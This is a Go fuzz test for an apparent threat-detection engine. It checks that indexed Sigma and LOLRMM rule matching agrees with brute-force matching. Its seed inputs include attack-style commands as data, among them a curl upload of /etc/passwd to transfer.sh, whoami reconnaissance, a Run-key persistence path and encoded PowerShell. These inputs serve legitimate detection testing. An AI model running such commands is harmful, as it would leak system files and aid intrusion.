package policies

import (
	"slices"
	"testing"

	"github.com/vigilhq/vigil/internal/event"
	"github.com/vigilhq/vigil/policies/match"
)

// FuzzPrefilter: for fuzzed event values over the SigmaHQ + LOLRMM rules, the indexed engine
// and brute force agree.
func FuzzPrefilter(f *testing.F) {
	rs := loadCorpus(f, true)
	ctx := match.NewCtx(rs.fields)
	logsources := [][3]string{
		{"process_creation", "windows", ""}, {"process_creation", "linux", ""}, {"process_creation", "macos", ""},
		{"network_connection", "windows", ""}, {"file_event", "windows", ""}, {"dns_query", "windows", ""},
		{"registry_set", "windows", ""}, {"image_load", "windows", ""}, {"", "windows", "security"},
		{"dns", "any", ""}, {"registry_event", "windows", ""}, {"ps_script", "windows", ""},
	}
	f.Add(uint8(0), `C:\Windows\System32\cmd.exe`, `cmd.exe /c whoami /all`, `C:\Windows\explorer.exe`, "x")
	f.Add(uint8(3), `C:\Program Files\AnyDesk\AnyDesk.exe`, `relay-1.net.anydesk.com`, `443`, "4624")
	f.Add(uint8(1), "/usr/bin/curl", "curl -F file=@/etc/passwd https://transfer.sh", "/bin/bash", "")
	f.Add(uint8(6), `C:\x.exe`, `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\x`, `powershell -enc SQBFAFgA`, "")
	f.Fuzz(func(t *testing.T, ls uint8, a, b, c, d string) {
		l := logsources[int(ls)%len(logsources)]
		fields := map[string]any{
			"Image": a, "CommandLine": b, "ParentImage": c, "ParentCommandLine": b + " " + d,
			"OriginalFileName": d, "DestinationHostname": b, "DestinationPort": c, "QueryName": b,
			"TargetFilename": a + d, "TargetObject": b, "Details": d, "ImageLoaded": a, "EventID": d,
			"ScriptBlockText": b, "query": b, "TargetUserName": d, "Hashes": c, "User": d,
			"List": []any{a, d}, "Nested": map[string]any{"x": b},
		}
		ev := &event.Event{ID: "f", Category: l[0], Product: l[1], Service: l[2], Fields: fields}
		ctx.Reset(ev)
		want := bruteForce(rs, ctx, ev)
		ctx.Reset(ev)
		got := indexed(rs, ctx)
		if !slices.Equal(got, want) {
			t.Fatalf("indexed %v, brute force %v for %v", keys(rs, got), keys(rs, want), fields)
		}
	})
}
